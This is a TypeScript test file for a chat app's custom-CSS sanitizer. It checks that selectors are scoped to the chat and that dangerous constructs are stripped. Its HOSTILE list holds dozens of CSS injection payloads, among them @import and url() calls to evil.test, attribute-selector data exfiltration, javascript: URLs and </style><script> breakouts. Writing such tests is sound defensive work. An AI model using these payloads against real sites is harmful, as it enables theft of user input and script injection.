import { LONGEST_CSS } from '@parlance/contract/agents/custom-css'
import { parse, walk } from 'css-tree'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { createCss } from './css.ts'

const ORIGIN = 'https://chat.example'
const css = createCss(() => ORIGIN)
const clean = (text: string) => css.clean(text)
const messages = (text: string) => css.check(text).problems.map(({ message }) => message)

describe('what people write', () => {
  test.each([
    ['.bubble{color:red}', '#app .bubble{color:red;}'],
    ['.a, .b > .c { margin: 0 auto !important }', '#app .a,#app .b>.c{margin:0 auto!important;}'],
    [':root { --accent: #12ab34 }', ':root #app{--accent:#12ab34;}'],
    ['html, body { color: red }', 'html #app,body #app{color:red;}'],
    ['html[dir=rtl] .a{color:red}', 'html[dir=rtl] #app .a{color:red;}'],
    ['#app .a{color:red}', '#app .a{color:red;}'],
    ['body>#app{color:red}', 'body>#app{color:red;}'],
    ['* {color:red}', '#app *{color:red;}'],
    ['.a { color: red; &:hover { color: blue } .b & { x: y } }', '#app .a{color:red;&:hover{color:blue;}}'],
    ['@media (width < 400px) { .a { color: red } }', '@media (width<400px){#app .a{color:red;}}'],
    ['@media (prefers-color-scheme:dark){:root{--x:1px}}', '@media (prefers-color-scheme:dark){:root #app{--x:1px;}}'],
    ['@supports (display: grid) { .a { display: grid } }', '@supports (display:grid){#app .a{display:grid;}}'],
    ['@keyframes x { from { top: 0 } 50.5% { top: 1px } }', '@keyframes x{from{top:0;}50.5%{top:1px;}}'],
    ['.a{background:url(/media/eu/abc.png) center/cover}', '#app .a{background:url("/media/eu/abc.png")center/cover;}'],
    ['.a{background:url("https://chat.example/media/x.png")}', '#app .a{background:url("/media/x.png");}'],
    ['.a{background:url(data:image/png;base64,iVBO+/=)}', '#app .a{background:url("data:image/png;base64,iVBO+/=");}'],
    ['.a{color:color-mix(in srgb, var(--accent, red) 50%, white)}', undefined],
    ['.a::before{content:"\\201C"}', '#app .a::before{content:"“";}'],
    ['.a::before{content:"</style><script>"}', String.raw`#app .a::before{content:"\3c /style>\3c script>";}`],
    ['/* note */ .a{/* here */color:/* there */red}', '#app .a{color:red;}'],
    ['.a{z-index:9;position:sticky}', '#app .a{z-index:9;position:sticky;}'],
    ['.a{frobnicate:7}', '#app .a{frobnicate:7;}'],
    ['', ''],
  ])('%s', (text, expected) => {
    const cleaned = clean(text)
    if (expected === undefined) expect(cleaned).not.toBe('')
    else expect(cleaned).toBe(expected)
    expect(clean(cleaned)).toBe(cleaned)
  })
  test('keeps a font only with a source on its own installation or the visitor’s', () => {
    expect(clean('@font-face{font-family:X;src:local("X Sans")}')).toBe(
      '@font-face{font-family:X;src:local("X Sans");}',
    )
    expect(clean('@font-face{font-family:X;src:url(https://evil.test/x.woff2)}')).toBe('')
  })
})

const HOSTILE = [
  '@import url(https://evil.test/x.css);',
  '@import "https://evil.test/x.css";',
  '@IMPORT "//evil.test";',
  '@\\69mport "//evil.test";',
  '@charset "utf-7";',
  '@namespace url(https://evil.test);',
  '@font-face{font-family:x;src:url(//evil.test/f.woff)}',
  '@font-face{font-family:x;src:url(data:font/woff;base64,AA)}',
  '.a{background:url(https://evil.test/x.png)}',
  '.a{background:url(//evil.test/x.png)}',
  '.a{background:url(\\\\evil.test/x.png)}',
  '.a{background:URL("https://evil.test")}',
  '.a{background:u\\72l(https://evil.test)}',
  '.a{background:\\75\\72\\6c(https://evil.test)}',
  '.a{background:ur/**/l(https://evil.test)}',
  '.a{background:url(/\\2fevil.test)}',
  '.a{background:url(/media/../../evil)}',
  '.a{background:url(/media//evil.test)}',
  '.a{background:url(/media/x.png?token=1)}',
  '.a{background:url(/api/eu/account/sign-out)}',
  '.a{background:url(https://chat.example.evil.test/media/x.png)}',
  '.a{background:url(https://chat.example@evil.test/media/x.png)}',
  '.a{background:url(data:image/svg+xml,<svg onload=alert(1)>)}',
  '.a{background:url(data:text/html,x)}',
  '.a{background:url(javascript:alert(1))}',
  '.a{background:image-set("https://evil.test/x.png" 1x)}',
  '.a{background:-webkit-image-set(url(https://evil.test) 1x)}',
  '.a{background:image("https://evil.test")}',
  '.a{background:src("https://evil.test")}',
  '.a{background:cross-fade(url(https://evil.test), red)}',
  '.a{background:element(#x)}',
  '.a{background:paint(x)}',
  '.a{--x:url(https://evil.test);background:var(--x)}',
  '.a{background:var(--x, url(https://evil.test))}',
  '.a{--x:{a:url(https://evil.test)}}',
  '.a{--x:;background:url(https://evil.test)}',
  '.a{cursor:url(https://evil.test/c.cur),auto}',
  '.a{filter:url(https://evil.test/#f)}',
  '.a{mask:url(https://evil.test/#f)}',
  '.a{offset-path:url(https://evil.test)}',
  '.a{list-style-image:url(https://evil.test)}',
  '.a{content:url(https://evil.test)}',
  '.a{shape-outside:url(https://evil.test)}',
  'input[value^=a]{background:url(https://evil.test/?a)}',
  'body:has(input[value^=a]){--x:url(https://evil.test/?a)}',
  '.a{width:expression(alert(1))}',
  '.a{behavior:url(x.htc)}',
  '.a{-moz-binding:url(x.xml#x)}',
  '.a{filter:progid:DXImageTransform.Microsoft.Alpha(opacity=50)}',
  '.a{position:fixed;inset:0}',
  '.a{position:FIXED}',
  '.a{position:fi\\78 ed}',
  '.a{position:var(--p)}',
  '.a{position:/**/fixed}',
  '@keyframes x{from{position:fixed}}',
  '.a{z-index:10}',
  '.a{z-index:99999999999}',
  '.a{z-index:calc(9*9)}',
  '.a{z-index:var(--z)}',
  '.a{color:red}</style><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '<!-- .a{background:url(https://evil.test)} -->',
  '.a{color:red;}}.b{background:url(https://evil.test)}',
  '@media screen{@import "//evil.test";}',
  '@media screen and (x:url(https://evil.test)){.a{color:red}}',
  '@supports (background:url(https://evil.test)){.a{color:red}}',
  '@supports (x:"</style>"){.a{color:red}}',
  '@document url(https://evil.test){.a{color:red}}',
  '@counter-style x{symbols:url(https://evil.test)}',
  '@property --x{syntax:"<url>";inherits:true;initial-value:url(https://evil.test)}',
  '@page{background:url(https://evil.test)}',
  '.a{background:url(https://evil.test',
  '.a{background:"\nurl(https://evil.test)',
  '.a\\{background:url(https://evil.test)}',
  'a[href="\\22]{}*{background:url(https://evil.test)}"]{color:red}',
  '.a{color:red\\;background:url(https://evil.test)}',
  '.a{/*\\*/background:url(https://evil.test)/**/}',
  '.a{background:url(https://evil.test)\0}',
  '.a{b\0ackground:url(https://evil.test)}',
  '\uFEFF@import "//evil.test";',
  'body ~ *{color:red}',
  'html + .x{color:red}',
  '.a{& + html &{color:red}}',
] as const

const withoutStrings = (text: string) => text.replaceAll(/"(?:[^"\\]|\\.)*"/g, '""')

const MARKS = [
  '{',
  '}',
  '(',
  ')',
  '"',
  "'",
  ';',
  ':',
  '\\',
  '/*',
  '*/',
  '@media x{',
  'url(',
  '<',
  '\n',
  '\0',
  '&',
  ',',
  '.a',
]

function expectHarmless(cleaned: string) {
  expect(cleaned).not.toContain('</')
  expect(cleaned).not.toContain('<!--')
  expect(withoutStrings(cleaned)).not.toMatch(/@(?:import|charset|namespace|document|counter-style|property|page)/i)
  const tree = parse(cleaned, {
    parseCustomProperty: true,
    onParseError: (error) => expect.fail(`${error.message} in ${cleaned}`),
  })
  walk(tree, (node) => {
    if (node.type === 'Url')
      expect(node.value).toMatch(/^(?:\/media\/[\w/.-]+|data:image\/(?:png|jpe?g|gif|webp|avif)[;,].*)$/)
    if (node.type === 'Function') expect(node.name).toMatch(/^-?[a-z][\w-]*$/i)
    if (node.type === 'Function') expect(node.name).not.toMatch(/^(?:url|src|image|image-set|expression|element)$/i)
    if (node.type === 'Declaration') {
      expect(node.property).not.toMatch(/^(?:behavior|-moz-binding)$/i)
      if (/^position$/i.test(node.property)) expect(JSON.stringify(node.value)).not.toMatch(/fixed|var/i)
    }
    if (node.type === 'Raw') expect(node.value).not.toMatch(/url|\\|</i)
  })
}

describe('hostile texts', () => {
  test.each(HOSTILE)('[1.16] %j does no harm', (text) => {
    const { css: cleaned, problems } = css.check(text)
    expectHarmless(cleaned)
    if (/evil|fixed|<\//.test(text.replaceAll(/"[^"]*"/g, ''))) expect(problems.length).toBeGreaterThan(0)
    expect(withoutStrings(cleaned)).not.toContain('evil')
  })
  test('keeps good rules next to hostile ones', () => {
    for (const text of ['@import "//evil.test";', '.a{background:url(//evil.test)}', '.a{position:fixed}'])
      expect(clean(`.x{color:red}\n${text}\n.y{color:blue}`)).toContain('#app .y{color:blue;}')
  })

  const pieces = fc.constantFrom(
    ...HOSTILE,
    ...HOSTILE.flatMap((text) => [text.slice(0, text.length / 2), text.slice(text.length / 2)]),
    ...MARKS,
  )
  test('stays harmless when texts are joined or cut anywhere, and is idempotent', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 12 }), (parts) => {
        const cleaned = clean(parts.join(''))
        expectHarmless(cleaned)
        expect(clean(cleaned)).toBe(cleaned)
      }),
      { numRuns: 1500 },
    )
  })
  test('reads a text the same after any other text', () => {
    const texts = fc.array(pieces, { maxLength: 8 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(texts, texts, (text, other) => {
        const before = clean(text)
        clean(other.repeat(3))
        expect(clean(text)).toBe(before)
      }),
      { numRuns: 500 },
    )
  })
  test('accepts any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => expectHarmless(clean(text))),
      { numRuns: 500 },
    )
  })
})

describe('keeps every selector inside the chat', () => {
  const names = fc.constantFrom('html', 'body', ':root', '#app', '*', '.a', 'p', '.a:has(.b)', ':is(html)', '[x="y"]')
  const combinators = fc.constantFrom(' ', '>', '+', '~')
  test('scopes selectors whatever they start with', () => {
    fc.assert(
      fc.property(names, fc.array(fc.tuple(combinators, names), { maxLength: 4 }), (first, more) => {
        const selector = first + more.map(([combinator, name]) => combinator + name).join('')
        const [written = ''] = clean(`${selector}{color:red}`).split('{')
        if (written === '') return
        expect(written).toContain('#app')
        expect(written.split('#app')[1] ?? '').not.toMatch(/^[+~]/)
      }),
    )
  })
})

describe('limits', () => {
  test.each([
    ['parentheses', `.a{width:${'('.repeat(40_000)}}`],
    ['blocks', '.a{'.repeat(15_000)],
    ['functions', `.a{width:${'calc('.repeat(9000)}}`],
    ['brackets', '['.repeat(49_000)],
    ['selectors', `${'.a,'.repeat(16_000)}.b{color:red}`],
    ['rules', '.a{color:red}'.repeat(3800)],
    ['declarations', `.a{${'b:c;'.repeat(12_000)}}`],
    ['compounds', `${'.a '.repeat(16_000)}{color:red}`],
    ['a value', `.a{grid-template-columns:${'1fr '.repeat(12_000)}}`],
    ['strings', `.a{content:${'"a" '.repeat(12_000)}}`],
    ['comments', '/*a*/'.repeat(10_000)],
    ['at-rules', '@media x{'.repeat(5000)],
    ['backslashes', '\\'.repeat(49_999)],
    ['quotes', '"'.repeat(49_999)],
    ['a picture', `.a{background:url(data:image/png;base64,${'A'.repeat(49_900)})}`],
  ])('%s without number come to an end', { timeout: 30_000 }, (_what, text) => {
    expect(text.length).toBeLessThanOrEqual(LONGEST_CSS)
    expectHarmless(clean(text))
    expect(css.check(text).problems.length).toBeLessThanOrEqual(100)
  })
  test('drops a text that is too long as a whole', () => {
    expect(clean('.a{color:red}'.repeat(5000))).toBe('')
    expect(messages('a'.repeat(LONGEST_CSS + 1))).toEqual(['The CSS is longer than 50,000 characters.'])
  })
})

describe('problems for the editor', () => {
  test('reports the position and the removal', () => {
    expect(css.check('.a {\n  color: red;\n  background: url(//evil.test);\n}').problems).toMatchObject([
      {
        line: 3,
        column: 3,
        endLine: 3,
        endColumn: 31,
        level: 'removed',
        message: expect.stringContaining('only load images uploaded here'),
      },
    ])
  })
  test('reports probable misspellings, which visitors still get', () => {
    const { css: cleaned, problems } = css.check('.a{colr:red;color:redd;--own:redd;width:calc(1px + 2px)}')
    expect(problems.map(({ level, message }) => [level, message])).toEqual([
      ['unknown', '“colr” isn’t a property we know. Check the spelling.'],
      ['unknown', '“redd” isn’t a value of color that we know.'],
    ])
    expect(cleaned).toContain('colr:red;')
  })
  test('reports what can’t be read', () => {
    const [problem] = css.check('.a{color:red}\n.b{color}').problems
    expect(problem).toMatchObject({ line: 2, level: 'removed' })
  })
})
